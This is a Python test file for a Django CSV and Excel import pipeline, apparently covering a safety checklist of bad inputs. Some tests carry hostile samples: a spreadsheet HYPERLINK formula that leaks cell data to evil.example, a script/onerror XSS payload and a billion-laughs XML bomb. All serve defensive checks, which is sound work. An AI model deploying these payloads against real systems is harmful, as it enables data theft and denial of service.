"""Every bad input of safety-checklist §7: a clear message, and nothing written (run on PostgreSQL)."""

import codecs
import io
import zipfile

import pytest

from programs.imports import pipeline
from programs.models import ImportBatch, Program, ProgramFact
from tests.catalog.helpers import (
    HEADER,
    NOTHING,
    csv_file,
    csv_text,
    import_file,
    number,
    preview,
    row,
    rows,
    written,
    xlsx_file,
)

pytestmark = pytest.mark.django_db
Status = ImportBatch.Status


def refused(workspace, data: bytes, name: str = "programs.csv") -> str:
    batch = preview(workspace, data, name)
    assert batch.status == Status.REFUSED
    assert written() == NOTHING
    assert batch.stored_file == ""  # the upload is deleted at once
    return batch.message


def blocked_preview(workspace, data: bytes, name: str = "programs.csv") -> ImportBatch:
    """A preview with invalid rows: confirming without "skip invalid" writes nothing."""
    batch = preview(workspace, data, name)
    assert batch.status == Status.PREVIEWED
    assert not pipeline.confirm_batch(batch, inline=True)
    assert written() == NOTHING
    return batch


def messages(batch: ImportBatch) -> list[str]:
    return [f"{e['row']}: {e['message']}" for e in batch.errors]


# 1–7: encodings and delimiters ------------------------------------------------------------------


def test_1_a_utf8_file_imports(workspace):
    batch = import_file(workspace, csv_file())
    assert (batch.encoding, batch.delimiter, batch.rows_new) == ("utf-8", ",", 3)


def test_2_a_utf8_file_with_a_bom_imports_and_its_first_header_is_clean(workspace):
    batch = import_file(workspace, codecs.BOM_UTF8 + csv_file())
    assert batch.encoding == "utf-8-sig"
    assert batch.column_mapping["columns"][0] == {
        "header": "Program ID", "target": "number", "label": "Program number", "how": "alias", "note": ""
    }  # fmt: skip


def test_3_a_cp1252_file_from_excel_on_windows_imports_with_its_accents(workspace):
    data = csv_file(body=[row(1, **{"Program Name": "Hôpital Café Program"})], encoding="cp1252")
    batch = import_file(workspace, data)
    assert batch.encoding == "cp1252"
    assert Program.objects.get().name == "Hôpital Café Program"


def test_4_a_latin1_file_with_bytes_cp1252_lacks_still_imports(workspace):
    data = csv_file(body=[row(1, **{"Program Name": "Zürich Program"})], encoding="latin-1")
    data = data.replace("Zürich".encode("latin-1"), b"Z\xfcrich\x81")  # 0x81 is undefined in cp1252
    batch = import_file(workspace, data)
    assert batch.encoding == "latin-1"
    assert Program.objects.get().name.startswith("Zürich")


def test_5_an_excel_unicode_text_file_utf16_with_tabs_imports(workspace):
    data = codecs.BOM_UTF16_LE + csv_text(HEADER, rows(3), delimiter="\t").encode("utf-16-le")
    batch = import_file(workspace, data, name="programs.txt")
    assert (batch.encoding, batch.delimiter, batch.detected_format, batch.rows_new) == (
        "utf-16",
        "\t",
        "tsv",
        3,
    )


def test_6_a_semicolon_separated_file_from_european_excel_imports(workspace):
    batch = import_file(workspace, csv_file(delimiter=";"))
    assert (batch.delimiter, batch.rows_new) == (";", 3)


def test_7_a_tab_separated_utf8_file_imports(workspace):
    batch = import_file(workspace, csv_file(delimiter="\t"), name="programs.tsv")
    assert (batch.delimiter, batch.rows_new) == ("\t", 3)


# 8–10: headers ------------------------------------------------------------------------------------


def test_8_header_variants_are_normalised(workspace):
    header = ["Program_Code", " Name ", "SPECIALTY", "visa_statuses_accepted"]
    batch = import_file(workspace, csv_file(header, [[number(1), "Variant Program", "140", "['H-1B']"]]))
    targets = [c["target"] for c in batch.column_mapping["columns"]]
    assert targets == ["number", "name", "specialty", "visa_list"]
    assert ProgramFact.objects.get().values == {"visa_j1": False, "visa_h1b": True, "visa_f1": False}


def test_9_a_file_without_a_program_number_column_says_which_names_work(workspace):
    data = csv_file(["Name", "City"], [["A Program", "Boston"]])
    batch = preview(workspace, data)
    assert batch.status == Status.PREVIEWED
    assert "No column gives the ACGME program number" in batch.message
    assert "Program ID" in batch.message
    assert not pipeline.confirm_batch(batch, inline=True, skip_invalid=True)
    assert written() == NOTHING


def test_10_extra_unknown_columns_are_listed_as_ignored(workspace):
    data = csv_file([*HEADER, "Favourite colour"], [[*row(1), "blue"]])
    batch = preview(workspace, data)
    assert batch.ignored_columns == [{"header": "Favourite colour", "note": "not a column Shortlist knows"}]


# 11–16: structure -------------------------------------------------------------------------------


def test_11_an_empty_file_is_refused(workspace):
    assert refused(workspace, b"") == "The file is empty."
    assert refused(workspace, b"\r\n  \n") == "The file is empty."


def test_11_an_empty_workbook_is_refused(workspace):
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    assert refused(workspace, buffer.getvalue(), "empty.xlsx") == "The workbook's first sheet is empty."


def test_12_a_header_without_rows_is_refused(workspace):
    assert refused(workspace, csv_file(body=[])) == "The file has a header row but no data rows."


def test_13_an_exact_repeat_is_imported_once_and_a_conflicting_repeat_is_an_error(workspace):
    body = [row(1), row(2), row(1), row(2, **{"% IMG": "99"})]
    batch = blocked_preview(workspace, csv_file(body=body))
    assert {"row": 4, "message": "repeats row 2; imported once"} in batch.warnings
    assert messages(batch) == [
        f"5: program {number(2)} is already in row 3 with different values; keep one of them"
    ]


def test_14_blank_lines_and_empty_rows_are_skipped(workspace):
    text = csv_text(HEADER, rows(2)) + ",,,,,,,,,\r\n\r\n" + csv_text(HEADER, [row(5)]).split("\r\n", 1)[1]
    batch = import_file(workspace, text.encode())
    assert (batch.rows_total, batch.rows_new) == (3, 3)
    assert batch.preview["blank_rows"] == 2


def test_15_a_ragged_row_is_an_error_with_its_row_number(workspace):
    text = csv_text(HEADER, rows(2)) + f"{number(9)},Short Program,Boston\r\n"
    batch = blocked_preview(workspace, text.encode())
    assert messages(batch) == ["4: has 3 cells but the header has 10 columns"]


def test_16_an_unclosed_quote_that_swallows_the_file_is_refused(workspace):
    text = csv_text(HEADER, rows(2)) + f'{number(9)},"Unclosed Program,Boston\r\n{number(10)},Next\r\n'
    message = refused(workspace, text.encode())
    assert message.startswith("Row 4 could not be read")
    assert "never closed" in message


def test_16_a_quote_closed_rows_later_is_pointed_out(workspace):
    good = csv_text(HEADER, rows(1))
    swallowed = (
        f'{number(8)},"Swallowing\r\n{number(9)},Swallowed",New York,NY,140,[],1,1,University,x.org\r\n'
    )
    batch = preview(workspace, (good + swallowed).encode())
    assert any("spans several lines (rows 3)" in note for note in batch.preview["notes"])


# 17–21: values -----------------------------------------------------------------------------------


def test_17_a_wrong_type_is_a_row_error_not_a_crash(workspace):
    batch = blocked_preview(
        workspace, csv_file(body=[row(1), row(2, **{"Number of 1st Yr Positions": "abc"})])
    )
    assert batch.errors == [
        {"row": 3, "column": "Number of 1st Yr Positions", "message": "“abc” is not a number"}
    ]


def test_18_out_of_range_and_over_long_values_are_row_errors_and_all_or_nothing_holds(workspace):
    body = [row(1), row(2, **{"% IMG": "150"}), row(3, **{"Number of 1st Yr Positions": "-5"}),
            row(4, **{"Program Name": "x" * 301})]  # fmt: skip
    batch = blocked_preview(workspace, csv_file(body=body))
    assert messages(batch) == [
        "3: 150% is not between 0 and 100",
        "4: -5 cannot be negative",
        "5: is 301 characters long; at most 300",
    ]
    assert pipeline.confirm_batch(batch, inline=True, skip_invalid=True)  # the person chose to
    assert written() == {"programs": 1, "facts": 1, "tracked": 1, "stats": 0}


def test_19_a_date_in_a_number_column_of_a_workbook_is_a_row_error(workspace):
    from datetime import datetime

    body = [row(1), row(2)]
    body[1][7] = datetime(2024, 7, 1)
    batch = blocked_preview(workspace, xlsx_file(HEADER, body), "programs.xlsx")
    assert messages(batch) == ["3: “2024-07-01 00:00:00” is not a number"]


def test_20_a_workbook_number_that_lost_its_leading_zero_is_padded_and_said(workspace):
    body = [row(1, **{"Program ID": 200500131, "Specialty": "", "State": ""})]
    batch = import_file(workspace, xlsx_file(HEADER, body), "programs.xlsx")
    program = Program.objects.get()
    assert (program.number, program.state) == ("0200500131", "CA")
    assert any("lost their leading zeros" in note for note in batch.preview["notes"])


def test_21_a_formula_without_a_saved_value_is_a_row_error(workspace):
    data = xlsx_file(HEADER, [row(1), row(2, **{"% IMG": "=1+1"})])
    batch = blocked_preview(workspace, data, "programs.xlsx")
    assert messages(batch) == ["3: a formula without a calculated value (open and save the file in Excel)"]


# 22–24: content ------------------------------------------------------------------------------------


def test_22_formula_like_text_in_a_csv_is_stored_as_text(workspace):
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    import_file(workspace, csv_file(body=[row(1, **{"Program Name": name})]))
    assert Program.objects.get().name == name  # stored verbatim; every export neutralises it


def test_23_html_in_names_is_stored_verbatim(workspace):
    name = "<script>alert(1)</script><img src=x onerror=alert(2)> Program"
    import_file(workspace, csv_file(body=[row(1, **{"Program Name": name})]))
    assert Program.objects.get().name == name  # templates escape it (test_views)


def test_24_nul_bytes_are_removed_before_postgresql_sees_them(workspace):
    data = csv_file(body=[row(1, **{"Program Name": "A\x00B Program"})])
    batch = import_file(workspace, data)
    assert Program.objects.get().name == "AB Program"
    assert "Removed 1 invisible control character(s), such as NUL bytes." in batch.preview["notes"]


def test_24_a_binary_file_is_refused(workspace):
    assert "binary data" in refused(workspace, b"\x00\x01\x02" * 400)


# 25–28: size and containers ------------------------------------------------------------------


def test_25_a_file_over_the_size_limit_is_refused_before_parsing(workspace, settings):
    settings.IMPORT_MAX_BYTES = 2048
    message = refused(workspace, csv_file(body=rows(60)))
    assert message.startswith("The file is ") and "more than the 2 KB limit" in message


def test_25_a_file_over_the_row_limit_is_refused(workspace, settings):
    settings.IMPORT_MAX_ROWS = 5
    assert "more than 5 rows" in refused(workspace, csv_file(body=rows(6)))
    assert written() == NOTHING


def test_26_a_workbook_that_unpacks_too_large_is_refused_before_parsing(workspace, settings):
    settings.IMPORT_XLSX_MAX_UNPACKED_BYTES = 4096
    message = refused(workspace, xlsx_file(HEADER, rows(200)), "big.xlsx")
    assert "unpacks to" in message and "Save it as CSV instead" in message


def test_26_a_workbook_with_too_many_parts_is_refused(workspace, settings):
    settings.IMPORT_XLSX_MAX_MEMBERS = 5
    assert "parts, more than the 5 allowed" in refused(workspace, xlsx_file(HEADER, rows(2)), "a.xlsx")


def test_26_a_workbook_claiming_few_rows_is_still_read_whole(workspace):
    data = _rewrite_member(xlsx_file(HEADER, rows(5)), "xl/worksheets/sheet1.xml", b'<dimension ref="A1:J6" />',
                           b'<dimension ref="A1:B2" />')  # fmt: skip
    assert preview(workspace, data, "a.xlsx").rows_total == 5


def test_27_a_billion_laughs_workbook_is_refused(workspace):
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    data = _rewrite_member(xlsx_file(HEADER, rows(1)), "xl/workbook.xml", b"<workbook", bomb + b"<workbook")
    assert (
        refused(workspace, data, "lol.xlsx")
        == "The workbook contains XML entity declarations, which are not allowed."
    )


def test_28_other_bytes_named_xlsx_are_refused(workspace):
    assert refused(workspace, csv_file(), "programs.xlsx") == (
        "This is not an Excel file, although its name ends in .xlsx."
    )


def test_28_an_old_xls_workbook_is_refused_with_what_to_do(workspace):
    message = refused(workspace, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old.xls")
    assert "Save it as .xlsx or as CSV" in message


def test_28_a_zip_that_is_not_a_workbook_is_refused(workspace):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert "some other zip file" in refused(workspace, buffer.getvalue(), "letter.docx")


# 30: line endings and whitespace ----------------------------------------------------------------


@pytest.mark.parametrize("newline", ["\r\n", "\n", "\r"])
def test_30_any_line_ending_and_padded_keys_import(workspace, newline):
    body = [row(1, **{"Program ID": f"  {number(1)} "}), row(2)]
    batch = import_file(workspace, csv_file(body=body, newline=newline))
    assert batch.rows_new == 2
    assert set(Program.objects.values_list("number", flat=True)) == {number(1), number(2)}


def _rewrite_member(data: bytes, member: str, old: bytes, new: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == member:
                assert old in content, content[:300]
                content = content.replace(old, new, 1)
            target.writestr(info, content)
    return out.getvalue()
